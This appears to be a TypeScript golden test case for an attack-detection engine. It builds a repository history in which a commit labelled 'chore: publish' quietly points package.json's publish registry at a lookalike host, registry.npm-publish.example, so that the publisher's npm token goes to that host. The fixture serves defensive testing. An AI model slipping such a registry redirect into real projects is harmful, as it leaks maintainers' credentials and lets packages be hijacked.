import { REGISTRY_HOSTS } from "../../../../src/engine/index.ts";
import { TOMAS } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { manifest } from "../../project-files.ts";

const publishing = (registry: string) => manifest({ publishConfig: { access: "public", registry } });

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story:
    "The package is published to a host that only sounds like the registry, and so is the token of whoever publishes.",
  write(branch) {
    branch.given({ "package.json": publishing(`https://${REGISTRY_HOSTS.npm[0]}/`) });
    branch.commit(TOMAS, "chore: publish", { "package.json": publishing("https://registry.npm-publish.example/") });
  },
};
